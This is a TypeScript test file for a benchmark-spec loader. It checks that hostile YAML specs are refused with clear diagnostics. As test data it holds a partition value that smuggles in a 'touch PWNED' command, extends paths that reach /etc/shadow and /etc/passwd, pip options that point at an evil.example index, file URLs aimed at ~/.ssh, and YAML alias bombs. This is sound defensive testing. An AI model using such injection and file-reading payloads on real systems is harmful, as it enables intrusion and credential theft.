// Issue 15, hostile specs: each row of the table that a spec carries gets a clear refusal at
// load time (file:line:col, a code, a hint), before anything is planned, built or run.
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { formatDiagnostic } from '../../src/spec/diagnostics.ts';
import { loadSpec } from '../../src/validate/load.ts';
import { FIXTURES, cli, tmpdir, write } from '../helpers.ts';

let dir: string;

beforeAll(() => {
  dir = tmpdir('benchgrid-security-');
  fs.copyFileSync(path.join(FIXTURES, 'specs/tiny.yaml'), path.join(dir, 'tiny.yaml'));
});

/** A spec that extends the tiny fixture with `extra` YAML; returns its path. */
function child(name: string, extra: string): string {
  return write(dir, name, `benchgrid: 1\nextends: tiny.yaml\n${extra}\n`);
}

/** A spec whose environment `main` requires `reqs`, in a file of its own; returns its path. */
function requiring(reqs: string[]): string {
  const name = `requirements-${Math.random().toString(36).slice(2)}.yaml`;
  return child(name, `environments:\n  main: { requirements: ${JSON.stringify(reqs)} }`);
}

async function errorsOf(file: string) {
  const loaded = await loadSpec(file);
  expect(loaded.spec).toBeUndefined();
  const errors = loaded.diagnostics.filter((d) => d.severity === 'error');
  expect(errors.length).toBeGreaterThan(0);
  for (const d of errors) expect(formatDiagnostic(d)).toMatch(/^[^:]+:\d+:\d+/);
  return errors;
}

describe('a hostile spec is refused at load time', () => {
  it('slurm.partition with a newline and a command', async () => {
    const [e] = await errorsOf(child('partition.yaml', 'slurm: { partition: "debug\\ntouch PWNED" }'));
    expect(e.code).toBe('bad-value');
    expect(e.path).toBe('/slurm/partition');
    expect(e.message).toContain('Slurm partition name');
    expect(e.message).toContain('"debug\\ntouch PWNED"'); // shown escaped: the diagnostic stays one line
    expect(formatDiagnostic(e)).not.toContain('\n');
  });

  it('extends: /etc/shadow is refused without reading it', async () => {
    const [e] = await errorsOf(write(dir, 'shadow.yaml', 'benchgrid: 1\nextends: /etc/shadow\nname: x\n'));
    expect(e.code).toBe('extends-outside');
    expect(e.line).toBe(2);
    expect(e.message).toMatch(/extends names "\/etc\/shadow", which is outside the spec's directory/);
  });

  it('extends: /etc/passwd in an otherwise valid spec is refused, and so is a ../ escape', async () => {
    const [e] = await errorsOf(
      write(dir, 'passwd.yaml', fs.readFileSync(path.join(dir, 'tiny.yaml'), 'utf8') + 'extends: /etc/passwd\n'),
    );
    expect(e.code).toBe('extends-outside');
    const [up] = await errorsOf(write(dir, 'up.yaml', 'benchgrid: 1\nextends: ../../../../etc/passwd\n'));
    expect(up.code).toBe('extends-outside');
  });

  it('extends through a symbolic link that leaves the directory', async () => {
    const outside = tmpdir('benchgrid-outside-');
    write(outside, 'base.yaml', 'benchgrid: 1\n');
    fs.symlinkSync(path.join(outside, 'base.yaml'), path.join(dir, 'link.yaml'));
    const [e] = await errorsOf(write(dir, 'via-link.yaml', 'benchgrid: 1\nextends: link.yaml\n'));
    expect(e.code).toBe('extends-outside');
    expect(e.message).toContain('through a symbolic link');
  });

  it('a base that is not a mapping is an error, not silently ignored', async () => {
    write(dir, 'list-base.yaml', '- root:x:0:0\n- daemon:x:1:1\n');
    const [e] = await errorsOf(write(dir, 'list-child.yaml', 'benchgrid: 1\nextends: list-base.yaml\nname: x\n'));
    expect(e.code).toBe('bad-extends');
    expect(e.message).toMatch(/is not a mapping of keys to values \(got a list\)/);
  });

  it.each([
    ['--index-url http://evil.example/simple'],
    ['-e ../x'],
    ['-r /etc/passwd'],
    ['torch\n--index-url http://evil.example'],
    ['torch==2.0 --hash=sha256:00'],
    ['torch; --index-url=http://evil.example'],
  ])('requirement %j is not a PEP 508 requirement', async (req) => {
    const [e] = await errorsOf(requiring([req]));
    expect(e.code).toBe('bad-requirement');
    expect(e.path).toBe('/environments/main/requirements/0');
    expect(e.hint).toMatch(/pip options .* are not allowed/);
  });

  it('PEP 508 requirements with extras, versions and markers are accepted', async () => {
    const reqs = [
      'torch==2.14.1',
      'numpy<2',
      'transformer-lens>=4,<5',
      'a[b,c]>=1; python_version < "3.13"',
      "x; platform_machine == 'x86_64'",
    ];
    const loaded = await loadSpec(requiring(reqs));
    expect(loaded.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  });

  it.each([
    ['pkg @ https://example.org/pkg-1.0-py3-none-any.whl', 'https'],
    ['pkg @ file:///home/me/.ssh', 'file'],
    ['pkg@git+https://example.org/pkg.git', 'git+https'],
    ['pkg[x] @ file://localhost/tmp/build-me ; python_version > "3"', 'file'],
  ])('a requirement naming a source (%s) is refused: only the command line names one', async (req, scheme) => {
    const [e] = await errorsOf(requiring([req]));
    expect(e.code).toBe('requirement-source');
    expect(e.path).toBe('/environments/main/requirements/0');
    expect(e.message).toContain(`names a source (${scheme}:...)`);
    expect(e.hint).toMatch(/run --tool-source DIR or git:REV/);
  });

  it.each([
    ['timeout_s', '1e10', 86400],
    ['processes', '1000000000', 1000],
    ['samples', '1000000000', 100000],
    ['threads', '100000', 1024],
  ])('protocol.%s: %s is over its documented maximum', async (key, value, max) => {
    const [e] = await errorsOf(child(`limit-${key}.yaml`, `protocol: { ${key}: ${value} }`));
    expect(e.code).toBe('over-limit');
    expect(e.message).toContain(`must be <= ${max}`);
    expect(e.hint).toContain('docs/security.md');
  });

  it('999 aliases of a 300,000-item list are refused by size, quickly and in little memory', async () => {
    const text = `benchgrid: 1\nlist: &big [${new Array(300_000).fill('1').join(',')}]\ncontracts:\n  c:\n    params: { x: [${new Array(999).fill('*big').join(',')}] }\n`;
    const [e] = await errorsOf(write(dir, 'aliases.yaml', text));
    expect(e.code).toBe('too-large');
    expect(e.message).toMatch(/more than 100,000 values/);
  });

  it('a few aliases of a small list stay fine (the limit is by size, not by count)', async () => {
    const loaded = await loadSpec(child('few-aliases.yaml', `x-lists: &l [1, 2]\n`));
    // Unknown key, but no alias or size error: the document was expanded.
    expect(loaded.diagnostics.map((d) => d.code)).toEqual(['unknown-key']);
  });

  it.each([70, 850, 100_000])('nesting %i deep is refused in words, not with a stack overflow', async (depth) => {
    const [e] = await errorsOf(
      write(dir, `deep-${depth}.yaml`, `benchgrid: 1\nx: ${'['.repeat(depth)}${']'.repeat(depth)}\n`),
    );
    expect(e.code).toMatch(/^too-(deep|large)$/);
    expect(e.message).toMatch(/nests (too deeply|deeper than 64 levels)/);
    expect(e.message).not.toMatch(/call stack/i);
  });

  it('a title holding $& is text in page labels, not a replacement pattern', async () => {
    const loaded = await loadSpec(child('dollar.yaml', 'title: "Cost $& $1 $$ done"'));
    expect(loaded.spec?.page[0].rows[0].label).toBe("Cost $& $1 $$ done, one module's output");
  });

  it('runners: { torch: DIR } cannot replace the built-in runner', async () => {
    fs.mkdirSync(path.join(dir, 'mytorch'), { recursive: true });
    const [e] = await errorsOf(child('shadow-runner.yaml', 'runners: { torch: mytorch }'));
    expect(e.code).toBe('runner-shadows-builtin');
  });

  it('a runner directory outside the spec tree is refused before its manifest is read', async () => {
    const [e] = await errorsOf(child('runner-out.yaml', 'runners: { mine: /etc }'));
    expect(e.code).toBe('runner-outside');
  });

  it('python: ./script.sh is refused: relative interpreter paths are not interpreters', async () => {
    const [e] = await errorsOf(
      child('script-python.yaml', 'environments:\n  main: { python: ./script.sh, requirements: [] }'),
    );
    expect(e.code).toBe('bad-interpreter');
  });
});

describe('validate over the command line', () => {
  it('exits 2 with file:line:col for a newline in slurm.partition, and writes nothing', async () => {
    const file = child('cli-partition.yaml', 'slurm: { partition: "debug\\ntouch PWNED" }');
    const before = fs.readdirSync(dir).sort();
    const r = await cli(['validate', file], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/cli-partition\.yaml:\d+:\d+ slurm\.partition: must be a Slurm partition name/);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(fs.readdirSync(dir).sort()).toEqual(before);
    expect(fs.existsSync(path.join(dir, 'PWNED'))).toBe(false);
  });

  it.each([
    [
      'inputs too large to generate (each dimension in range, 2**34 elements in all) at the line of the shape',
      'huge-inputs.yaml',
      '{ kind: image, shape: [1024, 1024, 16384], seed: 0, stimuli: 8, batch_size: 4 }',
      /huge-inputs\.yaml:\d+:\d+ subjects\.resnet18\.inputs\.shape: shape \[1024, 1024, 16384\] is 17,179,869,184 elements; the harness generates at most 2,147,483,648 \(2\*\*31\) per input\./,
    ],
    [
      'a million stimuli at the line of stimuli',
      'many-stimuli.yaml',
      '{ kind: image, shape: [1, 3, 224, 224], seed: 0, stimuli: 1000000, batch_size: 4 }',
      /many-stimuli\.yaml:\d+:\d+ subjects\.resnet18\.inputs\.stimuli: 1,000,000 stimuli of shape \[3, 224, 224\] are 150,528,000,000 elements/,
    ],
  ])('refuses %s', async (_, name, inputs, pattern) => {
    const r = await cli(['validate', child(name, `subjects:\n  resnet18:\n    inputs: ${inputs}`)], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(pattern);
  });
});
